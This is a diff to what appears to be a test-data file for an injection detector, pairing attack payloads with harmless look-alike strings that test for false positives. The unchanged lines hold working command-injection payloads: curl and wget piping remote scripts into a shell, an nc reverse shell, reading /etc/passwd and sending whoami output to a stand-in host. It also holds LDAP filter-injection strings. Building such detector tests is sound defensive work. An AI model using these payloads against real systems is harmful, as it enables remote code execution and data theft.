@@ -115,7 +115,7 @@ PAYLOADS = {
         ("separator", "x || curl http://203.0.113.5/s.sh | sh"),
         ("separator", "foo && wget -qO- http://evil.example/a | bash"),
         ("separator", "1.1.1.1 | nc -e /bin/sh 203.0.113.8 4444"),
-        ("separator", "%0aid"),
+        ("separator", "\nid"),
         ("substitution", "$(cat /etc/passwd)"),
         ("substitution", "`id`"),
         ("substitution", "$(curl -s http://203.0.113.5/$(whoami))"),
@@ -202,7 +202,6 @@ PAYLOADS = {
         ("aggregation", "{\"$lookup\": {\"from\": \"users\", \"localField\": \"uid\", \"foreignField\": \"_id\", \"as\": \"u\"}}"),
     ],
     "ldap": [
-        ("wildcard", "*"),
         ("wildcard", "*)(uid=*))(|(uid=*"),
         ("wildcard", "admin*)((|userPassword=*)"),
         ("wildcard", "*)(|(objectClass=*)"),
@@ -331,8 +330,8 @@ TWINS = {
     ],
     "log4shell": [
         "${user.home}/logs", "Price: ${price}", "jndi lookup explained", "LDAP directory at ldap.example.com",
-        "${env} variables doc", "{lower} case please", "java.lang.String", "class.name=Orders",
-        "rO0 wireless earbuds", "%{count} items", "${1}", "module: classLoader docs",
+        "${env} variables doc", "{lower} case please", "Java developer (Spring Boot)", "class.name=Orders",
+        "rO0 wireless earbuds", "%{count} items", "US$ 1,000", "module: classLoader docs",
     ],
     "php": [
         "php developer role", "https://example.com/index.php?page=2", "input file: data.csv",
